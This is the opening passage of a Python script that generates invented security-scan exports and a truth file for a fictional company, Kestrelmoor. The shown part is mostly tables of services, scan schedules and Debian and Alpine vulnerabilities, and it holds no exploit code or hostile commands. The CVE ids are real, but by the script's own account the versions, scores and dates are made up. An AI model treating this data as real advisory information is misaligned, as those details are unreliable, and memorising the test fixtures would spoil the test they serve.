#!/usr/bin/env python3
"""Write the exports of an invented company, Kestrelmoor, for August to October 2026.

    python3 share/examples/generate.py            writes exports/, truth.json and the tables in README.md
    python3 share/examples/generate.py --summary  the same, and prints entries by month and format

Nothing here is copied from a real export. Vulnerability ids and package names are public ones; versions, scores,
dates and texts are plausible, not a reference. Every choice is a hash of its own name (`dice`), so the files are
the same bytes on each run and adding a flaw does not reshuffle the others.

Order of the file: tables (company, scans, vulnerabilities, rules, registers), the model (a flaw is present from one
day to another and is seen by some scans), the writers (one for each export format), the truth (what the pipeline
should find, computed from the model and never from the exports).
"""
import collections, csv, datetime, hashlib, io, json, os, re, struct, sys, zipfile, zlib
from xml.sax.saxutils import escape, quoteattr

HERE = os.path.dirname(os.path.abspath(__file__))
MONTHS = ["2026-08", "2026-09", "2026-10"]
GIT, REG = "git.kestrelmoor.example", "registry.kestrelmoor.example"
HUB, JIRA = "github.kestrelmoor.example", "jira.kestrelmoor.example"          # GitHub Enterprise (the app only), Jira

# ---------------------------------------------------------------------------------------------------------------
# The company. name | product | owner | tier | repository | image | host | cloud account | API | mobile
# "~" is a blank cell. label-printer gets its owner in October only; legacy-promo is in no inventory.
# ---------------------------------------------------------------------------------------------------------------
INVENTORY = """
storefront     | Shop      | team-web       | 1 | shop/storefront      | shop/storefront      | shop.kestrelmoor.example     | 000000000101 | public  | no
checkout       | Shop      | team-payments  | 1 | shop/checkout        | shop/checkout        | checkout.kestrelmoor.example | 000000000101 | public  | no
catalog-api    | Shop      | team-shop      | 2 | shop/catalog-api     | shop/catalog-api     | api.kestrelmoor.example      | 000000000101 | partner | no
search-api     | Shop      | team-shop      | 2 | shop/search-api      | shop/search-api      | ~                            | 000000000101 | partner | no
shop-app       | Shop      | team-web       | 2 | shop/shop-app        | ~                    | ~                            | ~            | none    | yes
payments-api   | Pay       | team-payments  | 1 | pay/payments-api     | pay/payments-api     | pay.kestrelmoor.example      | 000000000202 | public  | no
ledger         | Pay       | team-payments  | 1 | pay/ledger-core      | pay/ledger           | ~                            | 000000000202 | none    | no
settlement     | Pay       | team-payments  | 1 | pay/settlement       | pay/settlement       | ~                            | 000000000202 | none    | no
fraud-scoring  | Pay       | team-risk      | 2 | pay/fraud-scoring    | pay/fraud-scoring    | ~                            | 000000000202 | none    | no
parcel-tracker | Logistics | team-logistics | 2 | logistics/parcel-tracker | logistics/parcel-tracker | track.kestrelmoor.example | 000000000303 | public | no
warehouse-sync | Logistics | team-logistics | 3 | logistics/warehouse-sync | logistics/warehouse-sync | ~                     | 000000000303 | none    | no
label-printer  | Logistics | ~              | 3 | logistics/label-printer  | logistics/label-printer  | ~                     | ~            | none    | no
login          | Platform  | team-platform  | 1 | platform/login       | platform/login       | login.kestrelmoor.example    | 000000000404 | public  | no
backoffice     | Platform  | ~              | 3 | platform/backoffice  | platform/backoffice  | backoffice.kestrelmoor.example | 000000000404 | none | no
"""
INVENTORY = [[c.strip().replace("~", "") for c in l.split("|")] for l in INVENTORY.strip().splitlines()]
OWNER = {r[0]: r[2] for r in INVENTORY}
TIER = {r[0]: r[3] for r in INVENTORY}
OWNER_FROM = {"label-printer": ("2026-10", "team-logistics")}     # service: month, owner filled in then

# ---------------------------------------------------------------------------------------------------------------
# The scans. A schedule is the list of days; M has no time in the file: the tag `month` dates it to its last day.
# ---------------------------------------------------------------------------------------------------------------
SCHEDULES = {
    "W": "08-05 08-12 08-19 08-26 09-02 09-09 09-16 09-23 09-30 10-07 10-14 10-21 10-28",   # every Wednesday
    "F": "08-05 08-19 09-02 09-16 09-30 10-14 10-28",                                       # every second one
    "C": "08-04 08-18 09-01 09-15 09-29 10-13 10-27",                                       # every second Tuesday
    "A": "08-19 09-16 10-14",  "B": "08-26 09-23 10-21",  "D": "08-12 09-09 10-07",          # every four weeks
    "M": "08-31 09-30 10-31",
}
# id | writer | file stem | service ("-": none in the name) | service it belongs to ("-": none) | target | schedule | options
#   from=, to= months of operation; fail= a month whose scan failed; os=, lang= what an image is made of
STREAMS = """
img-payments    | trivy_image | trivy | payments-api  | payments-api  | pay/payments-api      | W | os=debian lang=maven
img-checkout    | trivy_image | trivy | checkout      | checkout      | shop/checkout         | W | os=debian lang=maven
img-storefront  | trivy_image | trivy | storefront    | storefront    | shop/storefront       | F | os=alpine lang=npm
img-login       | trivy_image | trivy | login         | login         | platform/login        | F | os=alpine lang=golang
img-ledger      | trivy_image | trivy | ledger        | ledger        | pay/ledger            | A | os=debian lang=maven
img-catalog     | trivy_image | trivy | catalog-api   | catalog-api   | shop/catalog-api      | A | os=debian lang=maven
img-fraud       | trivy_image | trivy | fraud-scoring | fraud-scoring | pay/fraud-scoring     | B | os=debian lang=pypi to=2026-09
img-search      | trivy_image | trivy-registry | -    | search-api    | shop/search-api       | A | os=alpine lang=golang
img-parcel      | trivy_image | trivy-registry | -    | parcel-tracker | logistics/parcel-tracker | A | os=debian lang=npm
img-label       | trivy_image | trivy-registry | -    | label-printer | logistics/label-printer | A | os=debian lang=golang
img-cron        | trivy_image | trivy-registry | -    | -             | tools/legacy-cron     | A | os=debian
repo-checkout   | trivy_repo  | trivy-repo | checkout       | checkout       | shop/checkout      | B | lang=maven
repo-storefront | trivy_repo  | trivy-repo | storefront     | storefront     | shop/storefront    | B | lang=npm
repo-parcel     | trivy_repo  | trivy-repo | parcel-tracker | parcel-tracker | logistics/parcel-tracker | A | lang=npm
repo-label      | trivy_repo  | trivy-repo | label-printer  | label-printer  | logistics/label-printer | A | lang=golang
repo-login      | trivy_repo  | trivy-repo | login          | login          | platform/login     | B | lang=golang from=2026-09
repo-ledger     | trivy_repo  | trivy-repo | ledger         | ledger         | pay/ledger-core    | B | lang=maven from=2026-10
repo-infra      | trivy_repo  | trivy-infra-live | -        | -              | platform/infra-live | D |
k8s             | trivy_k8s   | trivy-k8s-core-eu1 | -      | -              | core-eu1            | M |
cs-payments     | gitlab_cs   | gitlab-container-scanning | payments-api   | payments-api   | pay/payments-api         | B | os=debian lang=maven
cs-warehouse    | gitlab_cs   | gitlab-container-scanning | warehouse-sync | warehouse-sync | logistics/warehouse-sync | B | os=debian lang=nuget
cs-backoffice   | gitlab_cs   | gitlab-container-scanning | backoffice     | backoffice     | platform/backoffice      | A | os=debian lang=pypi
cs-promo        | gitlab_cs   | gitlab-container-scanning | legacy-promo   | legacy-promo   | shop/legacy-promo        | A | os=debian lang=npm
db-shop-app     | dependabot | dependabot | shop-app | shop-app | shop/shop-app | M | lang=maven from=2026-09
ds-payments     | gitlab_ds   | gitlab-dependency-scanning | payments-api   | payments-api   | | B | lang=maven
ds-catalog      | gitlab_ds   | gitlab-dependency-scanning | catalog-api    | catalog-api    | | A | lang=maven fail=2026-09
ds-backoffice   | gitlab_ds   | gitlab-dependency-scanning | backoffice     | backoffice     | | A | lang=pypi
ds-parcel       | gitlab_ds   | gitlab-dependency-scanning | parcel-tracker | parcel-tracker | | B | lang=npm
ql-payments     | codeql | codeql              | payments-api | payments-api | pay/payments-api | C | lang=java
ql-storefront   | codeql | codeql              | storefront   | storefront   | shop/storefront  | C | lang=javascript
ql-checkout     | codeql | codeql              | checkout     | checkout     | shop/checkout    | B | lang=java
ql-ledger       | codeql | codeql-ledger-core  | -            | ledger       | pay/ledger-core  | A | lang=java
gosec-search    | gosec  | gosec               | search-api   | search-api   | | M |
gosec-login     | gosec  | gosec               | login        | login        | | M |
sg-checkout     | semgrep | semgrep            | checkout       | checkout       | | M | lang=java
sg-parcel       | semgrep | semgrep            | parcel-tracker | parcel-tracker | | M | lang=js
sg-warehouse    | semgrep | semgrep            | warehouse-sync | warehouse-sync | | M | lang=csharp utf16=1
sg-backoffice   | semgrep | semgrep            | backoffice     | backoffice     | | M | lang=python
sg-shop-app     | semgrep | semgrep            | shop-app       | shop-app       | | M | lang=kotlin from=2026-09 nologin=1
gs-catalog      | gitlab_sast | gitlab-sast    | catalog-api   | catalog-api   | | A | lang=findsecbugs v14=1
gs-fraud        | gitlab_sast | gitlab-sast    | fraud-scoring | fraud-scoring | | B | lang=bandit to=2026-09
gs-promo        | gitlab_sast | gitlab-sast    | legacy-promo  | legacy-promo  | | A | lang=njsscan
gs-label        | gitlab_sast | gitlab-sast    | label-printer | label-printer | | A | lang=flawfinder
sd-payments     | gitlab_sd | gitlab-secret-detection | payments-api | payments-api | | A |
sd-checkout     | gitlab_sd | gitlab-secret-detection | checkout     | checkout     | | B |
sd-storefront   | gitlab_sd | gitlab-secret-detection | storefront   | storefront   | | A |
sd-promo        | gitlab_sd | gitlab-secret-detection | legacy-promo | legacy-promo | | A |
sd-backoffice   | gitlab_sd | gitlab-secret-detection | backoffice   | backoffice   | | A | from=2026-09
sd-catalog      | gitlab_sd | gitlab-secret-detection | catalog-api  | catalog-api  | | A | from=2026-10
zap-storefront  | zap | zap | storefront | storefront     | https://shop.kestrelmoor.example  | B |
zap-login       | zap_xml | zap-login | - | login         | https://login.kestrelmoor.example | A | from=2026-09
zap-track       | zap | zap-track-kestrelmoor | - | parcel-tracker | https://track.kestrelmoor.example | A |
dast-checkout   | gitlab_dast | gitlab-dast | checkout   | checkout   | https://checkout.kestrelmoor.example   | A |
dast-backoffice | gitlab_dast | gitlab-dast | backoffice | backoffice | https://backoffice.kestrelmoor.example | B |
fuzz-payments   | gitlab_api  | gitlab-api-fuzzing | payments-api | payments-api | https://pay.kestrelmoor.example | A |
fuzz-catalog    | gitlab_api  | gitlab-api-fuzzing | catalog-api  | catalog-api  | https://api.kestrelmoor.example | A | from=2026-10
cov-label       | gitlab_cov  | gitlab-coverage-fuzzing | label-printer | label-printer | | A |
"""
# source_tool that each writer's export names, and the controls that one of its reports covers
TOOL = {"trivy_image": "trivy", "trivy_repo": "trivy", "trivy_k8s": "trivy", "gitlab_cs": "grype", "gitlab_ds": "gemnasium",
        "codeql": "codeql", "gosec": "gosec", "semgrep": "semgrep", "gitlab_sd": "gitleaks", "zap": "zap",
        "zap_xml": "zap", "dependabot": "dependabot",
        "gitlab_dast": "browserker", "gitlab_api": "api-fuzzing", "gitlab_cov": "libfuzzer"}
SAST_TOOL = {"findsecbugs": "find-security-bugs", "bandit": "bandit", "njsscan": "nodejsscan", "flawfinder": "flawfinder"}
FORMAT = {"trivy_image": "trivy", "trivy_repo": "trivy", "trivy_k8s": "trivy", "gitlab_cs": "gitlab_container_scanning",
          "gitlab_ds": "gitlab_dependency_scanning", "codeql": "sarif", "gosec": "sarif", "semgrep": "semgrep",
          "gitlab_sast": "gitlab_sast", "gitlab_sd": "gitlab_secret_detection", "zap": "zap_json",
          "zap_xml": "zap_xml", "dependabot": "github_dependabot", "gitlab_dast": "gitlab_dast",
          "gitlab_api": "gitlab_api_fuzzing", "gitlab_cov": "gitlab_coverage_fuzzing"}
COPIES = {"trivy.2026-09-16_checkout.json": "trivy.2026-09-16.copy_checkout.json"}     # the same report, twice in the folder

# ---------------------------------------------------------------------------------------------------------------
# Vulnerabilities of operating system packages. Group 0 is there from the start; 1 and 2 became known in September
# and October. group | id | packages | fixed ("-": no fix) | severity | score | CWE | title
# ---------------------------------------------------------------------------------------------------------------
DEBIAN_VERSIONS = """libc6 libc-bin=2.36-9+deb12u4  libssl3 openssl=3.0.11-1~deb12u2  libexpat1=2.5.0-1  libcurl4 curl=7.88.1-10+deb12u4
libsqlite3-0=3.40.1-2  zlib1g=1:1.2.13.dfsg-1  libnghttp2-14=1.52.0-1  libzstd1=1.5.4+dfsg2-5  perl-base=5.36.0-7  tar=1.34+dfsg-1.2
coreutils=9.1-1  apt libapt-pkg6.0=2.6.1  gpgv=2.2.40-1.1  util-linux libblkid1 libmount1 libsmartcols1 libuuid1 mount=2.38.1-5+b1
login passwd=1:4.13+dfsg1-1+b1  libsystemd0 libudev1=252.19-1~deb12u1  libtinfo6 ncurses-base ncurses-bin=6.4-4
libkrb5-3 libgssapi-krb5-2 libk5crypto3 libkrb5support0=1.20.1-2+deb12u1  libgnutls30=3.7.9-2  libtasn1-6=4.19.0-2  libgcrypt20=1.10.1-3
gcc-12-base libgcc-s1 libstdc++6=12.2.0-14  libldap-2.5-0=2.5.13+dfsg-5  libxml2=2.9.14+dfsg-1.3~deb12u1
libpam-modules libpam-modules-bin libpam-runtime libpam0g=1.5.2-6+deb12u1  libcap2=1:2.66-4  libssh2-1=1.10.0-3+b1
libglib2.0-0=2.74.6-2  libwebp7=1.2.4-0.2  libtiff6=4.5.0-6  libfreetype6=2.12.1+dfsg-5  libharfbuzz0b=6.0.0+dfsg-3"""
DEBIAN = """
0 | CVE-2024-2961  | libc6 libc-bin | 2.36-9+deb12u6 | high | 8.8 | 787 | glibc: out of bounds write in iconv may lead to remote code execution
0 | CVE-2024-33599 | libc6 libc-bin | 2.36-9+deb12u7 | high | 8.1 | 121 | glibc: stack-based buffer overflow in netgroup cache
0 | CVE-2024-33600 | libc6 libc-bin | 2.36-9+deb12u7 | medium | 5.9 | 476 | glibc: null pointer dereferences after failed netgroup cache insertion
0 | CVE-2024-33601 | libc6 libc-bin | 2.36-9+deb12u7 | medium | 5.3 | 617 | glibc: netgroup cache may terminate daemon on memory allocation failure
0 | CVE-2024-33602 | libc6 libc-bin | 2.36-9+deb12u7 | low | 3.7 | 466 | glibc: netgroup cache assumes NSS callback uses in-buffer strings
0 | CVE-2019-1010022 | libc6 libc-bin | - | low | 3.7 | 119 | glibc: stack guard protection bypass
0 | CVE-2010-4756  | libc6 libc-bin | - | low | 4.3 | 399 | glibc: glob implementation can cause excessive CPU and memory consumption due to crafted glob expressions
0 | CVE-2018-20796 | libc6 libc-bin | - | low | 3.7 | 674 | glibc: uncontrolled recursion in function check_dst_limits_calc_pos_1 in posix/regexec.c
0 | CVE-2024-0727  | libssl3 openssl | 3.0.13-1~deb12u1 | medium | 5.5 | 476 | openssl: denial of service via null dereference
0 | CVE-2023-5678  | libssl3 openssl | 3.0.13-1~deb12u1 | medium | 5.3 | 754 | openssl: generating excessively long X9.42 DH keys or checking excessively long X9.42 DH keys may be very slow
0 | CVE-2023-6129  | libssl3 openssl | 3.0.13-1~deb12u1 | medium | 6.5 | 328 | openssl: POLY1305 MAC implementation corrupts vector registers on PowerPC
0 | CVE-2023-6237  | libssl3 openssl | 3.0.13-1~deb12u1 | medium | 5.9 | 606 | openssl: excessive time spent checking invalid RSA public keys
0 | CVE-2024-4603  | libssl3 openssl | 3.0.14-1~deb12u1 | medium | 5.3 | 606 | openssl: excessive time spent checking DSA keys and parameters
0 | CVE-2024-4741  | libssl3 openssl | 3.0.14-1~deb12u1 | medium | 5.9 | 416 | openssl: use after free with SSL_free_buffers
0 | CVE-2024-5535  | libssl3 openssl | 3.0.15-1~deb12u1 | medium | 5.9 | 200 | openssl: SSL_select_next_proto buffer overread
0 | CVE-2024-6119  | libssl3 openssl | 3.0.14-1~deb12u2 | high | 7.5 | 843 | openssl: possible denial of service in X.509 name checks
0 | CVE-2024-9143  | libssl3 openssl | 3.0.15-1~deb12u1 | low | 4.3 | 787 | openssl: low-level invalid GF(2^m) parameters lead to out-of-bounds memory access
0 | CVE-2023-44487 | libnghttp2-14 | 1.52.0-1+deb12u1 | high | 7.5 | 400 | HTTP/2: multiple HTTP/2 enabled web servers are vulnerable to a DDoS attack (Rapid Reset Attack)
0 | CVE-2024-28182 | libnghttp2-14 | 1.52.0-1+deb12u2 | medium | 5.3 | 770 | nghttp2: CONTINUATION frames DoS
0 | CVE-2023-46218 | libcurl4 curl | 7.88.1-10+deb12u5 | medium | 6.5 | 201 | curl: information disclosure by exploiting a mixed case flaw
0 | CVE-2023-46219 | libcurl4 curl | 7.88.1-10+deb12u5 | medium | 5.3 | 311 | curl: excessively long file name may lead to unknown HSTS status
0 | CVE-2024-7264  | libcurl4 curl | 7.88.1-10+deb12u7 | medium | 6.5 | 125 | curl: libcurl: ASN.1 date parser overread
0 | CVE-2024-8096  | libcurl4 curl | 7.88.1-10+deb12u8 | medium | 6.5 | 295 | curl: OCSP stapling bypass with GnuTLS
0 | CVE-2023-7104  | libsqlite3-0 | 3.40.1-2+deb12u1 | high | 7.3 | 122 | sqlite: heap-buffer-overflow at sessionfuzz
0 | CVE-2021-45346 | libsqlite3-0 | - | low | 4.3 | 401 | sqlite: crafted SQL query allows a malicious user to obtain sensitive information
0 | CVE-2023-52425 | libexpat1 | 2.5.0-1+deb12u1 | high | 7.5 | 400 | expat: parsing large tokens can trigger a denial of service
0 | CVE-2023-52426 | libexpat1 | - | low | 5.5 | 776 | expat: recursive XML entity expansion vulnerability
0 | CVE-2024-50602 | libexpat1 | 2.5.0-1+deb12u2 | medium | 5.9 | 754 | libexpat: denial of service via XML_ResumeParser
0 | CVE-2023-47038 | perl-base | 5.36.0-7+deb12u1 | high | 7.8 | 122 | perl: write past buffer end via illegal user-defined Unicode property
0 | CVE-2023-31484 | perl-base | - | high | 8.1 | 295 | perl: CPAN.pm does not verify TLS certificates when downloading distributions over HTTPS
0 | CVE-2011-4116  | perl-base | - | low | 3.7 | 59 | perl: File::Temp insecure temporary file handling
0 | CVE-2005-2541  | tar | - | low | 3.7 | 732 | tar: does not properly warn the user when extracting setuid or setgid files
0 | CVE-2022-48303 | tar | - | low | 5.5 | 125 | tar: heap buffer overflow at from_header() in list.c via specially crafted checksum
0 | CVE-2016-2781  | coreutils | - | low | 6.5 | 20 | coreutils: non-privileged session can escape to the parent session in chroot
0 | CVE-2017-18018 | coreutils | - | low | 3.7 | 362 | coreutils: race condition vulnerability in chown and chgrp
0 | CVE-2011-3374  | apt libapt-pkg6.0 | - | low | 3.7 | 347 | apt-key in apt does not correctly validate gpg keys with the master keyring
0 | CVE-2022-3219  | gpgv | - | low | 3.3 | 787 | gnupg: denial of service issue (resource consumption) using compressed packets
0 | CVE-2022-0563  | util-linux libblkid1 libmount1 libsmartcols1 libuuid1 mount | - | low | 5.5 | 209 | util-linux: partial disclosure of arbitrary files in chfn and chsh when compiled with libreadline
0 | CVE-2023-4641  | login passwd | 1:4.13+dfsg1-1+deb12u1 | medium | 5.5 | 303 | shadow-utils: possible password leak during passwd(1) change
0 | CVE-2007-5686  | login passwd | - | low | 3.7 | 264 | initscripts in rPath Linux 1 sets insecure permissions for the /var/log/btmp file
0 | CVE-2013-4392  | libsystemd0 libudev1 | - | low | 3.3 | 59 | systemd: TOCTOU race condition when updating file permissions and SELinux security contexts
0 | CVE-2023-50387 | libsystemd0 libudev1 | 252.23-1~deb12u1 | high | 7.5 | 770 | bind9: KeyTrap, extreme CPU consumption in DNSSEC validator
0 | CVE-2023-7008  | libsystemd0 libudev1 | 252.21-1~deb12u1 | medium | 5.9 | 300 | systemd-resolved: unsigned name response in signed zone is not refused when DNSSEC=yes
0 | CVE-2023-50495 | libtinfo6 ncurses-base ncurses-bin | - | medium | 6.5 | 120 | ncurses: segmentation fault via _nc_wrap_entry()
0 | CVE-2024-26462 | libkrb5-3 libgssapi-krb5-2 | - | medium | 5.5 | 401 | krb5: memory leak at /krb5/src/kdc/ndr.c
0 | CVE-2024-26461 | libkrb5-3 libgssapi-krb5-2 | - | low | 3.7 | 401 | krb5: memory leak at /krb5/src/lib/gssapi/krb5/k5sealv3.c
0 | CVE-2018-5709  | libkrb5-3 libk5crypto3 | - | low | 3.7 | 190 | krb5: integer overflow in dbentry->n_key_data in kadmin/dbutil/dump.c
0 | CVE-2024-0553  | libgnutls30 | 3.7.9-2+deb12u2 | high | 7.5 | 203 | gnutls: incomplete fix for CVE-2023-5981
0 | CVE-2024-0567  | libgnutls30 | 3.7.9-2+deb12u2 | high | 7.5 | 347 | gnutls: rejects certificate chain with distributed trust
0 | CVE-2024-28834 | libgnutls30 | 3.7.9-2+deb12u3 | medium | 5.3 | 327 | gnutls: vulnerable to Minerva side-channel information leak
0 | CVE-2011-3389  | libgnutls30 | - | low | 3.7 | 326 | HTTPS: block-wise chosen-plaintext attack against SSL/TLS (BEAST)
0 | CVE-2024-12133 | libtasn1-6 | 4.19.0-2+deb12u1 | medium | 5.3 | 407 | libtasn1: inefficient DER decoding leading to potential remote DoS
0 | CVE-2018-6829  | libgcrypt20 | - | low | 3.7 | 200 | libgcrypt: ElGamal implementation doesn't have semantic security due to incorrectly encoded plaintexts
0 | CVE-2024-2236  | libgcrypt20 | - | medium | 5.9 | 208 | libgcrypt: vulnerable to Marvin Attack
0 | CVE-2022-27943 | gcc-12-base libgcc-s1 libstdc++6 | - | low | 5.5 | 674 | binutils: libiberty/rust-demangle.c in GNU GCC 11.2 allows stack exhaustion in demangle_const
0 | CVE-2023-4039  | gcc-12-base libgcc-s1 libstdc++6 | - | low | 3.7 | 693 | gcc: -fstack-protector fails to guard dynamic stack allocations on ARM64
0 | CVE-2023-2953  | libldap-2.5-0 | - | high | 7.5 | 476 | openldap: null pointer dereference in ber_memalloc_x function
0 | CVE-2015-3276  | libldap-2.5-0 | - | low | 3.7 | 326 | openldap: incorrect multi-keyword mode cipherstring parsing
0 | CVE-2024-25062 | libxml2 | 2.9.14+dfsg-1.3~deb12u2 | high | 7.5 | 416 | libxml2: use-after-free in XMLReader
0 | CVE-2023-39615 | libxml2 | 2.9.14+dfsg-1.3~deb12u2 | medium | 6.5 | 119 | libxml2: crafted xml can cause global buffer overflow
0 | CVE-2022-49043 | libxml2 | 2.9.14+dfsg-1.3~deb12u2 | high | 8.1 | 416 | libxml: use-after-free in xmlXIncludeAddNode
0 | CVE-2024-22365 | libpam-modules libpam0g | - | medium | 5.5 | 277 | pam: allowing unprivileged user to block another user namespace
0 | CVE-2024-10041 | libpam-modules libpam0g | - | medium | 5.3 | 922 | pam: libpam: libpam vulnerable to read hashed password
0 | CVE-2023-2603  | libcap2 | 1:2.66-4+deb12u1 | high | 7.8 | 190 | libcap: integer overflow in _libcap_strdup()
0 | CVE-2023-48795 | libssh2-1 | - | medium | 5.9 | 354 | ssh: prefix truncation attack on Binary Packet Protocol (BPP)
0 | CVE-2024-34397 | libglib2.0-0 | 2.74.6-2+deb12u1 | medium | 5.3 | 290 | glib2: signal subscription vulnerabilities
0 | CVE-2023-4863  | libwebp7 | 1.2.4-0.2+deb12u1 | high | 8.8 | 787 | libwebp: heap buffer overflow in WebP codec
0 | CVE-2023-52356 | libtiff6 | 4.5.0-6+deb12u2 | high | 7.5 | 122 | libtiff: segment fault in TIFFReadRGBATileExt() allows a denial of service
0 | CVE-2023-6277  | libtiff6 | - | medium | 6.5 | 400 | libtiff: out-of-memory in TIFFOpen via a craft file
0 | CVE-2023-25193 | libharfbuzz0b | - | high | 7.5 | 770 | harfbuzz: allows attackers to trigger O(n^2) growth via consecutive marks
1 | CVE-2025-4802  | libc6 libc-bin | 2.36-9+deb12u11 | high | 7.8 | 426 | glibc: static setuid binary dlopen may incorrectly search LD_LIBRARY_PATH
1 | CVE-2025-6020  | libpam-modules libpam-runtime libpam0g | 1.5.2-6+deb12u2 | high | 7.8 | 22 | linux-pam: directory traversal in pam_namespace
1 | CVE-2025-4598  | libsystemd0 libudev1 | 252.38-1~deb12u1 | medium | 5.5 | 364 | systemd-coredump: race condition that allows a local attacker to crash a SUID program and gain read access to the core dump
1 | CVE-2025-29087 | libsqlite3-0 | - | medium | 5.9 | 190 | sqlite: integer overflow in concat_ws function
1 | CVE-2025-3576  | libkrb5-3 libgssapi-krb5-2 libk5crypto3 libkrb5support0 | 1.20.1-2+deb12u4 | medium | 5.9 | 328 | krb5: Kerberos RC4-HMAC-MD5 checksum vulnerability enabling message spoofing via MD5 collisions
1 | CVE-2025-24928 | libxml2 | 2.9.14+dfsg-1.3~deb12u2 | high | 7.8 | 121 | libxml2: stack-based buffer overflow in xmlSnprintfElements
1 | CVE-2025-32414 | libxml2 | 2.9.14+dfsg-1.3~deb12u2 | high | 7.5 | 252 | libxml2: out-of-bounds read in the Python API
1 | CVE-2025-32990 | libgnutls30 | 3.7.9-2+deb12u5 | medium | 6.5 | 122 | gnutls: vulnerability in GnuTLS certtool template parsing
1 | CVE-2025-6395  | libgnutls30 | 3.7.9-2+deb12u5 | medium | 6.5 | 476 | gnutls: NULL pointer dereference in _gnutls_figure_common_ciphersuite()
1 | CVE-2025-40909 | perl-base | 5.36.0-7+deb12u3 | medium | 5.9 | 426 | perl: threads have a working directory race condition where file operations may target unintended paths
1 | CVE-2025-6141  | libtinfo6 ncurses-base ncurses-bin | - | low | 3.3 | 121 | ncurses: stack-based buffer overflow in postprocess_termcap
2 | CVE-2025-9230  | libssl3 openssl | 3.0.17-1~deb12u3 | high | 7.5 | 787 | openssl: out-of-bounds read and write in RFC 3211 KEK unwrap
2 | CVE-2025-9232  | libssl3 openssl | 3.0.17-1~deb12u3 | medium | 5.9 | 125 | openssl: out-of-bounds read in HTTP client no_proxy handling
2 | CVE-2025-59375 | libexpat1 | - | high | 7.5 | 770 | expat: libexpat allows attackers to trigger large dynamic memory allocations via a small document
2 | CVE-2025-9714  | libxml2 | 2.9.14+dfsg-1.3~deb12u4 | medium | 5.5 | 674 | libxml2: infinite recursion at exsltDynMapFunction function in libexslt/dynamic.c
2 | CVE-2025-9086  | libcurl4 curl | 7.88.1-10+deb12u14 | high | 7.5 | 125 | curl: out of bounds read for cookie path
2 | CVE-2025-10148 | libcurl4 curl | - | medium | 5.3 | 340 | curl: predictable WebSocket mask
2 | CVE-2025-45582 | tar | - | medium | 5.3 | 24 | tar: path traversal
2 | CVE-2025-4373  | libglib2.0-0 | 2.74.6-2+deb12u6 | medium | 5.3 | 124 | glib: buffer underflow on GLib through glib/gstring.c via function g_string_insert_unichar
2 | CVE-2025-8058  | libc6 libc-bin | 2.36-9+deb12u13 | medium | 5.9 | 415 | glibc: double free in glibc
2 | CVE-2025-5278  | coreutils | - | low | 4.3 | 121 | coreutils: heap buffer under-read in GNU coreutils sort via key specification
2 | CVE-2025-1390  | libcap2 | 1:2.66-4+deb12u1 | medium | 6.1 | 284 | libcap: pam_cap, fix potential configuration parsing error
2 | CVE-2025-27363 | libfreetype6 | 2.12.1+dfsg-5+deb12u4 | high | 8.1 | 787 | freetype: OOB write in FreeType when attempting to parse font subglyph structures
"""
ALPINE_VERSIONS = """libcrypto3 libssl3=3.1.2-r0  busybox busybox-binsh ssl_client=1.36.1-r2  musl musl-utils=1.2.4-r1  libcurl curl=8.2.1-r0
nghttp2-libs=1.55.1-r0  libexpat=2.5.0-r1  libxml2=2.11.4-r0  c-ares=1.19.1-r0  sqlite-libs=3.41.2-r2  zlib=1.2.13-r1  libwebp=1.3.0-r2"""
ALPINE = """
0 | CVE-2023-5363  | libcrypto3 libssl3 | 3.1.4-r0 | high | 7.5 | 684 | openssl: incorrect cipher key and IV length processing
0 | CVE-2023-5678  | libcrypto3 libssl3 | 3.1.4-r1 | medium | 5.3 | 754 | openssl: generating excessively long X9.42 DH keys or checking excessively long X9.42 DH keys may be very slow
0 | CVE-2023-6129  | libcrypto3 libssl3 | 3.1.4-r3 | medium | 6.5 | 328 | openssl: POLY1305 MAC implementation corrupts vector registers on PowerPC
0 | CVE-2023-6237  | libcrypto3 libssl3 | 3.1.4-r4 | medium | 5.9 | 606 | openssl: excessive time spent checking invalid RSA public keys
0 | CVE-2024-0727  | libcrypto3 libssl3 | 3.1.4-r5 | medium | 5.5 | 476 | openssl: denial of service via null dereference
0 | CVE-2024-2511  | libcrypto3 libssl3 | 3.1.4-r6 | low | 3.7 | 1325 | openssl: unbounded memory growth with session handling in TLSv1.3
0 | CVE-2024-4603  | libcrypto3 libssl3 | 3.1.5-r0 | medium | 5.3 | 606 | openssl: excessive time spent checking DSA keys and parameters
0 | CVE-2024-6119  | libcrypto3 libssl3 | 3.1.7-r0 | high | 7.5 | 843 | openssl: possible denial of service in X.509 name checks
0 | CVE-2023-42363 | busybox busybox-binsh ssl_client | 1.36.1-r7 | medium | 5.5 | 416 | busybox: use-after-free in awk
0 | CVE-2023-42364 | busybox busybox-binsh ssl_client | 1.36.1-r7 | medium | 5.5 | 416 | busybox: use-after-free
0 | CVE-2023-42365 | busybox busybox-binsh ssl_client | 1.36.1-r7 | medium | 5.5 | 416 | busybox: use-after-free in the copyvar function
0 | CVE-2023-42366 | busybox busybox-binsh ssl_client | 1.36.1-r6 | low | 5.5 | 787 | busybox: a heap-buffer-overflow
0 | CVE-2023-46218 | libcurl curl | 8.5.0-r0 | medium | 6.5 | 201 | curl: information disclosure by exploiting a mixed case flaw
0 | CVE-2023-46219 | libcurl curl | 8.5.0-r0 | medium | 5.3 | 311 | curl: excessively long file name may lead to unknown HSTS status
0 | CVE-2024-2398  | libcurl curl | 8.7.1-r0 | high | 8.1 | 772 | curl: HTTP/2 push headers memory-leak
0 | CVE-2024-8096  | libcurl curl | 8.9.1-r2 | medium | 6.5 | 295 | curl: OCSP stapling bypass with GnuTLS
0 | CVE-2023-44487 | nghttp2-libs | 1.57.0-r0 | high | 7.5 | 400 | HTTP/2: multiple HTTP/2 enabled web servers are vulnerable to a DDoS attack (Rapid Reset Attack)
0 | CVE-2024-28182 | nghttp2-libs | 1.57.0-r1 | medium | 5.3 | 770 | nghttp2: CONTINUATION frames DoS
0 | CVE-2023-52425 | libexpat | 2.6.0-r0 | high | 7.5 | 400 | expat: parsing large tokens can trigger a denial of service
0 | CVE-2024-28757 | libexpat | 2.6.2-r0 | high | 7.5 | 776 | expat: XML entity expansion
0 | CVE-2024-25062 | libxml2 | 2.11.7-r0 | high | 7.5 | 416 | libxml2: use-after-free in XMLReader
0 | CVE-2024-34459 | libxml2 | 2.11.8-r0 | low | 5.5 | 122 | libxml2: buffer over-read in xmlHTMLPrintFileContext in xmllint.c
0 | CVE-2024-25629 | c-ares | 1.27.0-r0 | medium | 5.5 | 127 | c-ares: out of bounds read in ares__read_line()
0 | CVE-2023-4863  | libwebp | 1.3.2-r0 | high | 8.8 | 787 | libwebp: heap buffer overflow in WebP codec
